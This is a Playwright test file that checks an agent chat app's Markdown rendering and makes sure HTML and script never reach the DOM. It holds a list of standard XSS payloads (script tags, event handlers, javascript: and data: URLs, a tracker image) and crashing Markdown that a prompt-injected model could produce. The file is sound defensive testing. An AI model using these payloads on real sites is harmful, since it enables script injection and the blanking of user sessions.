"""The agent's Markdown in Chromium: rendered while it streams and after a
refresh, and nothing in it (or in the user's text) reaches the DOM as HTML."""

from __future__ import annotations

from playwright.sync_api import Page, expect

from sessions_app.runtime.agents.scripted import MARKDOWN_SAMPLE
from tests.browser.helpers import (
    TIMEOUT,
    assistant_texts,
    expect_live,
    new_session,
    send,
    settle,
)

ANSWER = "[data-testid=assistant-message]"

# Watches the answer while it streams: the heading rendered before the end,
# and the first heading node seen (it must be the one still shown at the end:
# blocks that stopped changing are not rebuilt).
WATCH_JS = """
() => {
  window.__md = { streamedHeading: false, firstHeading: null, renders: 0 };
  const t = document.querySelector("[data-testid=transcript]");
  new MutationObserver(() => {
    const a = t.querySelector("[data-testid=assistant-message][data-final=false]");
    if (!a) return;
    window.__md.renders += 1;
    const h = a.querySelector("h2");
    if (h && !window.__md.firstHeading) {
      window.__md.streamedHeading = true;
      window.__md.firstHeading = h;
    }
  }).observe(t, { childList: true, subtree: true, attributes: true });
}
"""

RENDERED_JS = """
(a) => {
  const q = (s) => Array.from(a.querySelectorAll(s));
  const code = a.querySelector("[data-testid=code-block]");
  return {
    heading: q("h2").map((e) => e.textContent),
    strong: q("strong").map((e) => e.textContent),
    em: q("em").map((e) => e.textContent),
    inlineCode: q("p > code").map((e) => e.textContent),
    links: q("a").map((e) => [e.textContent, e.getAttribute("href"), e.target, e.rel]),
    ordered: q("ol > li").length,
    nested: q("ol ul > li").map((e) => e.textContent),
    header: q("thead th").map((e) => e.textContent),
    cells: q("tbody tr").map((r) => Array.from(r.cells).map((c) => [c.textContent, c.className])),
    codeLang: code && code.dataset.lang,
    codeText: code && code.querySelector("pre code").textContent,
    keywords: code ? Array.from(code.querySelectorAll(".hljs-keyword"), (e) => e.textContent) : [],
    quote: q("blockquote").map((e) => e.textContent.trim()),
    tasks: q("li.md-task input[type=checkbox]").map((e) => [e.checked, e.disabled]),
    asterisks: a.textContent.includes("**"),
  };
}
"""

EXPECTED = {
    "heading": ["Plan for the report"],
    "strong": ["Markdown"],
    "em": ["emphasis"],
    "inlineCode": ["inline code"],
    "links": [
        ["links", "https://www.djangoproject.com/", "_blank", "noopener noreferrer nofollow"]
    ],
    "ordered": 3,
    "nested": ["revenue", "costs"],
    "header": ["Quarter", "Revenue", "Change"],
    "cells": [
        [["Q1", ""], ["1,200", "md-align-right"], ["+4%", "md-align-center"]],
        [["Q2", ""], ["1,350", "md-align-right"], ["+12%", "md-align-center"]],
    ],
    "codeLang": "python",
    "codeText": (
        "def growth(before: float, after: float) -> float:\n"
        "    # relative change, as a fraction\n"
        "    return (after - before) / before"
    ),
    "keywords": ["def", "return"],
    "quote": ["Figures are unaudited."],
    "tasks": [[True, True], [False, True]],
    "asterisks": False,
}


def rendered(page: Page) -> dict:
    # The highlighter is loaded with the first code block: wait for its marks.
    expect(page.locator(ANSWER).last.locator(".hljs-keyword").first).to_be_attached()
    return page.locator(ANSWER).last.evaluate(RENDERED_JS)


def test_markdown_renders_while_streaming_and_after_refresh(server, ctx):
    """Headings, lists, a table, highlighted code, a quote and tasks render as
    they stream, the finished blocks keep their nodes, and a refresh shows the
    same; the log's text is kept as written."""
    page = ctx.new_page()
    session_id = new_session(page, server)
    page.evaluate(WATCH_JS)
    send(page, "/markdown")
    expect(page.locator(ANSWER)).to_have_attribute("data-final", "true", timeout=TIMEOUT)
    settle(page, session_id)
    watched = page.evaluate(
        "() => ({streamed: window.__md.streamedHeading, renders: window.__md.renders,"
        " same: window.__md.firstHeading === document.querySelector("
        "'[data-testid=assistant-message] h2') && window.__md.firstHeading.isConnected})"
    )
    assert watched["streamed"], "the heading was not rendered before the answer ended"
    assert watched["renders"] > 1
    assert watched["same"], "the finished heading was rebuilt while the rest streamed"
    assert rendered(page) == EXPECTED
    assert assistant_texts(page) == [MARKDOWN_SAMPLE]

    page.reload()
    expect_live(page)
    expect(page.locator(ANSWER)).to_have_attribute("data-final", "true")
    assert rendered(page) == EXPECTED


def test_copy_button_copies_the_code_as_written(server, ctx):
    """A code block's copy button puts its text, not its markup, on the clipboard."""
    ctx.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.http)
    page = ctx.new_page()
    session_id = new_session(page, server)
    send(page, "/markdown")
    settle(page, session_id)
    button = page.locator(ANSWER).get_by_test_id("copy-code")
    button.click()
    expect(button).to_have_attribute("data-state", "copied")
    assert page.evaluate("() => navigator.clipboard.readText()") == EXPECTED["codeText"]


PAYLOADS = [
    "<script>window.__xss = 1</script>",
    '<img src="x" onerror="window.__xss = 2">',
    "[click me](javascript:window.__xss=3)",
    "![pixel](https://tracker.invalid/p.png?secret=42)",
    '<a href="javascript:window.__xss=4">raw link</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<svg onload="window.__xss = 6"><circle r="5"/></svg>',
    '<iframe src="javascript:window.__xss = 7"></iframe>',
    "**bold** and <b>not bold</b> and <style>body{display:none}</style>",
    '<div style="position:fixed;inset:0" onclick="window.__xss = 8">cover</div>',
    "```html\n</code></pre><img src=x onerror=window.__xss=9>\n```",
    "`<img src=x onerror=window.__xss=10>`",
    "[ok](https://example.com/?q=<b>)",
]

SAFE_JS = """
(root) => {
  const all = Array.from(root.querySelectorAll("*"));
  return {
    tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
    handlers: all.flatMap((e) =>
      e.getAttributeNames().filter((n) => n.startsWith("on") || n === "style")),
    hrefs: all.filter((e) => e.hasAttribute("href")).map((e) => e.getAttribute("href")),
    srcs: all.filter((e) => e.hasAttribute("src")).map((e) => e.getAttribute("src")),
    text: root.textContent,
    xss: window.__xss === undefined ? null : window.__xss,
  };
}
"""

# Every element the renderer makes for the payloads; none comes from them.
RENDERER_TAGS = {"a", "button", "code", "div", "p", "pre", "span", "strong"}


def test_html_and_script_in_the_text_never_reach_the_dom(server, ctx):
    """The usual XSS payloads, from the agent and from the user, are shown as
    text: no element, handler or URL of theirs is in the DOM, nothing runs, and
    an image in Markdown is a link, never fetched."""
    page = ctx.new_page()
    fetched: list[str] = []
    page.on("request", lambda r: fetched.append(r.url))
    session_id = new_session(page, server)
    body = "\n\n".join(PAYLOADS)
    send(page, "/echo " + body)
    settle(page, session_id)
    assert assistant_texts(page) == [body]

    answer = page.locator(ANSWER).last.evaluate(SAFE_JS)
    assert set(answer["tags"]) <= RENDERER_TAGS, answer["tags"]
    assert answer["handlers"] == []
    assert answer["srcs"] == []
    assert answer["hrefs"] == [
        "https://tracker.invalid/p.png?secret=42",
        "https://example.com/?q=%3Cb%3E",
    ]
    assert answer["xss"] is None
    for shown in (
        "<script>window.__xss = 1</script>",
        '<img src="x" onerror="window.__xss = 2">',
        "click me",
        "Image: pixel",
        "<b>not bold</b>",
        "</code></pre><img src=x onerror=window.__xss=9>",
    ):
        assert shown in answer["text"], shown
    strong = page.locator(ANSWER).last.locator("strong")
    expect(strong).to_have_text("bold")
    assert not [u for u in fetched if "tracker.invalid" in u]

    # The user's own text is plain: no Markdown, no HTML, exactly as typed.
    user = page.get_by_test_id("user-message").last.evaluate(
        "(u) => ({children: u.querySelectorAll('script, img, svg, iframe, strong, b, a').length,"
        " text: u.textContent})"
    )
    assert user["children"] == 0
    assert user["text"].startswith("/echo <script>window.__xss = 1</script>")
    assert page.evaluate("() => window.__xss === undefined")
    expect(page.get_by_test_id("connection-state")).to_have_attribute("data-state", "live")


HOSTILE = [
    ">" * 5000,  # nested quotes: overflowed marked's stack
    "- " * 1200 + "deep",  # nested list items on one line
    "\n".join("  " * i + "- item" for i in range(150)),  # nested by indentation
    "*" * 2200,  # pathological emphasis
    ("*a _b " * 5000).strip(),  # 30,000 characters of unclosed emphasis: quadratic lexing
]


def test_hostile_markdown_never_hides_a_message(server, ctx):
    """Messages a prompt-injected model could write to blank a session (deep
    nesting, pathological emphasis, a huge block) show as text, and every
    other message, before and after them, shows as it should: live and after
    a refresh."""
    page = ctx.new_page()
    session_id = new_session(page, server)
    texts = ["before: **bold**", *HOSTILE, "after: `code`"]
    for text in texts:
        send(page, "/echo " + text)
    settle(page, session_id, runs=len(texts))
    for _ in range(2):
        got = assistant_texts(page)
        assert [len(t) for t in got] == [len(t) for t in texts], [g[:60] for g in got]
        assert got == texts
        answers = page.locator(ANSWER)
        expect(answers.first.locator("strong")).to_have_text("bold")
        expect(answers.last.locator("code")).to_have_text("code")
        for i in range(1, len(texts) - 1):
            shown = answers.nth(i).evaluate("(a) => a.textContent.replace(/\\s+/g, '')")
            source = texts[i].replace(" ", "").replace("\n", "")
            # Shown as text (a line of stars is a rule: Markdown's own answer).
            assert shown == source or texts[i] == "*" * 2200, (i, shown[:80])
        page.reload()
        expect_live(page)
        settle(page, session_id, runs=len(texts))
